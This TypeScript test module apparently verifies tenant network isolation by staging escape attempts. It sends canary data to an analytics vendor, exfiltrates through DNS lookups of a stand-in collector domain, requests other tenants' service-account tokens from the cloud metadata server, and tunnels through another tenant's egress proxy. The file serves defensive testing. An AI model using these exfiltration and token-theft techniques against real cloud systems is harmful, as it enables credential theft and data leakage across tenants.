import { connect } from "node:net";
import { publicAddressOf } from "../../local/front/network/addresses";
import { type BreakIn, FLAVOR, type Scene } from "./breakIn";
import { judge, type Verdict } from "./verdict";
import { parseAnswer, type Sender, shoot } from "./wire";

const VENDOR = "api.mixpanel.com";
const SERVICE_ACCOUNTS = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts";

/** Ways out of the workload network, and to someone else's identity. */
export const networkBreakIns: readonly BreakIn[] = [
  {
    id: "vendor-by-name",
    title: "sends analytics straight to the vendor, by its name",
    expected: "DNS response policy",
    attempt: async ({ attacker, canary }) =>
      judge(await shoot(attacker.foothold, { url: `https://${VENDOR}/track?data=${canary}` })),
  },
  {
    id: "vendor-by-address",
    title: "sends analytics straight to the vendor, by its address",
    expected: "VPC route",
    attempt: async ({ attacker, canary }) =>
      judge(
        await shoot(attacker.foothold, {
          url: `https://${publicAddressOf(VENDOR)}/track?data=${canary}`,
          host: VENDOR,
        }),
      ),
  },
  {
    id: "vendor-behind-google",
    title: "asks Google's address for the vendor's host",
    expected: "front door",
    attempt: async ({ attacker, canary }) => {
      const hit = await shoot(attacker.foothold, {
        url: `https://storage.googleapis.com/track?data=${canary}`,
        host: VENDOR,
      });
      // Google serves no host that isn't its own: there is nothing behind it to get to.
      return "impact" in hit && hit.impact.status === 404
        ? { denied: true, wall: "front door", because: "Google's address serves Google's hosts only" }
        : judge(hit);
    },
  },
  {
    id: "names-as-messages",
    title: "hides data in the look-up of a name",
    expected: "DNS response policy",
    attempt: async ({ attacker, canary }) => {
      const { text, error } = await attacker.foothold.lookUp(`${canary}.collector.example`);
      if (text !== undefined && text === publicAddressOf(`${canary}.collector.example`)) {
        return { denied: false, because: "a public name server was asked" };
      }
      return {
        denied: true,
        wall: "DNS response policy",
        because: error ? error.message : `the look-up ends in the sinkhole, ${text}`,
      };
    },
  },
  {
    id: "other-identity",
    title: "asks its metadata server for the other tenant's identity",
    expected: "metadata server",
    attempt: async ({ attacker, victim }) => {
      const url = `${SERVICE_ACCOUNTS}/${victim.foothold.email}/token`;
      return judge(await shoot(attacker.foothold, { url, headers: [FLAVOR] }));
    },
  },
  {
    id: "identity-by-forgery",
    title: "has an app fetch a token for it, by an address that the app opens without looking",
    expected: "metadata server",
    attempt: async ({ attacker }) =>
      judge(await shoot(attacker.foothold, { url: `${SERVICE_ACCOUNTS}/default/token` })),
  },
  {
    id: "other-metadata-server",
    title: "asks the other tenant's metadata server, from its own instance",
    expected: "instance boundary",
    attempt: async ({ running, attacker, victim }) => {
      const { metadata } = running.networkOf(victim.workload.name);
      return judge(
        await shoot(attacker.foothold, {
          url: `http://127.0.0.1:${metadata}/computeMetadata/v1/instance/service-accounts/default/token`,
          headers: [FLAVOR],
        }),
      );
    },
  },
  {
    id: "metadata-from-outside",
    title: "asks the other tenant's metadata server, as another process of this machine",
    expected: "metadata server",
    // Elsewhere the kernel doesn't tell whose a connection is; docs/local-run.md says so.
    possible: () => process.platform === "linux",
    attempt: async (scene) => {
      const { metadata } = scene.running.networkOf(scene.victim.workload.name);
      return judge(await shoot(anyProcess(metadata), { url: `${SERVICE_ACCOUNTS}/default/token`, headers: [FLAVOR] }));
    },
  },
  {
    id: "gate-from-outside",
    title: "leaves through the other tenant's egress network, as another process of this machine",
    expected: "instance boundary",
    possible: () => process.platform === "linux",
    attempt: async (scene) => throughGate(scene),
  },
];

/** A process of the machine that belongs to no instance: this one. */
function anyProcess(port: number): Sender {
  return {
    send: ({ bytes }) =>
      new Promise((done) => {
        const socket = connect({ host: "127.0.0.1", port });
        let text = "";
        socket.once("connect", () => socket.write(bytes));
        socket.on("data", (part) => {
          text += part.toString("latin1");
        });
        socket.on("error", ({ message }) => done({ error: { code: "ERROR", message, refusals: [] } }));
        socket.on("close", () => done({ text }));
      }),
  };
}

async function throughGate({ running, victim }: Scene): Promise<Verdict> {
  const { gate } = running.networkOf(victim.proxy.name);
  const bytes = Buffer.from(`CONNECT ${VENDOR}:443 HTTP/1.1\r\nHost: ${VENDOR}:443\r\n\r\n`);
  const { text = "" } = await anyProcess(gate).send({ host: "", port: gate, secure: false, bytes });
  const { status, headers } = parseAnswer(text);
  const [refusal] = JSON.parse(decodeURIComponent(headers["bulkhead-refusals"] ?? "%5B%5D"));
  return status === 403 && refusal
    ? { denied: true, ...refusal }
    : { denied: false, because: `the gate answered ${status}` };
}
